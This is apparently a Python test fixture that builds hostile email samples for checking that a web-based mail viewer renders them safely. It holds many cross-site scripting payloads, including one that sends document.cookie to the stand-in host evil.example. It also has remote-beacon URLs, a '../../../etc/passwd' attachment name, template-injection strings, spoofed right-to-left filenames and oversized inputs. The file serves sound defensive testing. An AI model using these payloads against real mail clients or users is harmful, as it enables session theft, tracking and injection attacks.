"""Mails that try to harm who looks at them in a browser, by what they try."""

import base64
from email.mime.text import MIMEText

SCRIPT = "<script>document.title='hacked';fetch('http://evil.example/'+document.cookie)</script>"
IMAGE = "<img src=x onerror=\"document.title='hacked'\">"
_LINK = "http://evil.example/beacon"


def _mail(header: bytes = b"", body: bytes = b"hi\r\n") -> bytes:
    return header + b"\r\n" + body


def _html(html: str) -> bytes:
    mail = MIMEText(html, "html", "utf-8")
    mail["Subject"] = "HTML"
    return mail.as_bytes().replace(b"\n", b"\r\n")


def _attached(headers: str, content: str = "x") -> bytes:
    return (
        "Subject: attached\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
        "--b\r\nContent-Type: text/plain\r\n\r\ntext\r\n"
        f"--b\r\n{headers}\r\n\r\n{content}\r\n--b--\r\n"
    ).encode()


def _nested(depth: int) -> bytes:
    header = b"Subject: nested\r\nContent-Type: multipart/mixed; boundary=b0\r\n"
    body = b""
    for level in range(depth):
        body += b"--b%d\r\nContent-Type: multipart/mixed; boundary=b%d\r\n\r\n" % (level, level + 1)
    return _mail(header, body + b"text")


HTML = {
    "a script": SCRIPT,
    "an event handler": IMAGE,
    "an event handler without blanks": "<svg/onload=document.title='hacked'>",
    "a link with a script": "<a href=\"javascript:document.title='hacked'\">x</a>",
    "a frame": f'<iframe src="{_LINK}"></iframe>',
    "a frame with a script": "<iframe srcdoc=\"<script>parent.document.title='hacked'</script>\">",
    "an object": f'<object data="{_LINK}"></object><embed src="{_LINK}">',
    "a form": f'<form action="{_LINK}"><input name=q><button>Go</button></form>',
    "a base": f'<base href="{_LINK}/"><img src=a.png>',
    "a refresh": f'<meta http-equiv=refresh content="0;url={_LINK}">',
    "a picture": f'<img src="{_LINK}.png"><img srcset="{_LINK}.png 2x">',
    "a background": f'<table background="{_LINK}"><tr><td>x</table>',
    "a style with a URL": f'<p style="background:url({_LINK})">x</p>',
    "a style with an escaped URL": f'<p style="background:u\\72l({_LINK})">x</p>',
    "a style element": f"<style>@import '{_LINK}';body{{background:url({_LINK})}}</style>x",
    "a style sheet": f'<link rel=stylesheet href="{_LINK}"><link rel=prefetch href="{_LINK}">',
    "a font": f"<style>@font-face{{font-family:f;src:url({_LINK})}}p{{font-family:f}}</style><p>x",
    "a video": f'<video poster="{_LINK}" src="{_LINK}"></video><audio src="{_LINK}"></audio>',
    "SVG": f'<svg><image href="{_LINK}"/><script>document.title="hacked"</script></svg>',
    "MathML": "<math><maction xlink:href=javascript:alert(1)>x</maction></math>",
    "a comment that does not end": "<!-- <img src=x onerror=alert(1)>",
    "an open attribute": '<img title="--><script>alert(1)</script>" src=x',
    "a template": "<template><script>alert(1)</script></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "a data URL": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "a data picture of SVG": (
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'>"
        f"<image href='{_LINK}'/></svg>\">"
    ),
    "a ping": f'<a href="{_LINK}" ping="{_LINK}">x</a>',
    "a long nest": "<div>" * 5000 + "x",
    "a long attribute": f'<p title="{"x" * 200_000}">x</p>',
    "names of our page": '<div id="detail" class="rows" hx-get="/console/mail">x</div>',
}

MAILS: dict[str, bytes] = {
    **{f"HTML: {name}": _html(html) for name, html in HTML.items()},
    "a subject with a script": _mail(f"Subject: {SCRIPT}\r\n".encode()),
    "an encoded subject with a script": _mail(
        b"Subject: =?utf-8?b?" + base64.b64encode(SCRIPT.encode())[:400] + b"?=\r\n"
    ),
    "a subject that ends the title": _mail(b"Subject: </title><script>alert(1)</script>\r\n"),
    "a subject with a template": _mail(b"Subject: {{ 7*7 }} {% include 'x' %} ${7*7}\r\n"),
    "an author with a script": _mail(f'From: "{IMAGE}" <a@evil.example>\r\n'.encode()),
    "a field name with HTML": _mail(b'X-<b>bold</b>: 1\r\nX-"onclick="x: 2\r\n'),
    "a subject that turns around": _mail("Subject: \u202egnp.exe \u2066x\u2069\r\n".encode()),
    "terminal escapes": _mail(b"Subject: \x1b[2J\x1b]0;x\x07\r\n", b"\x1b[31mred\x1b[0m\x00\r\n"),
    "attachment name with HTML": _attached(
        f'Content-Type: image/png; name="{IMAGE.replace(chr(34), "")}"'
    ),
    "attachment name with a path": _attached(
        'Content-Disposition: attachment; filename="../../../etc/passwd"'
    ),
    "attachment name that turns around": _attached(
        'Content-Disposition: attachment; filename="\u202egnp.exe"'
    ),
    "a media type with HTML": _attached("Content-Type: text/<script>alert(1)</script>"),
    "an attached page": _attached(
        'Content-Type: text/html\r\nContent-Disposition: attachment; filename="a.html"', SCRIPT
    ),
    "attached SVG": _attached(
        "Content-Type: image/svg+xml",
        "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    ),
    "a broken encoding": _attached("Content-Transfer-Encoding: base64", "!!! no base64 ==="),
    "an unknown charset": _mail(
        b"Content-Type: text/plain; charset=x-nothing\r\n", b"\xff\xfe\r\n"
    ),
    "UTF-7": _mail(b"Content-Type: text/html; charset=utf-7\r\n", b"+ADw-script+AD4-alert(1)\r\n"),
    "UTF-16": _mail(b"Content-Type: text/html; charset=utf-16\r\n", SCRIPT.encode("utf-16")[:300]),
    "a mail in a mail": _mail(b"Content-Type: message/rfc822\r\n", b"Subject: inner\r\n\r\nx\r\n"),
    "deep nesting": _nested(200),
    "ten thousand parts": _mail(
        b"Content-Type: multipart/mixed; boundary=b\r\n", b"--b\r\n\r\nx\r\n" * 10_000
    ),
    "a header of 250 KB": _mail(b"X-Long: " + b"x" * 900 + b"\r\n" + b"X-A: b\r\n" * 30_000),
    "a boundary with quotes": _mail(
        b'Content-Type: multipart/mixed; boundary="\\"<b>\\""\r\n', b"x"
    ),
}
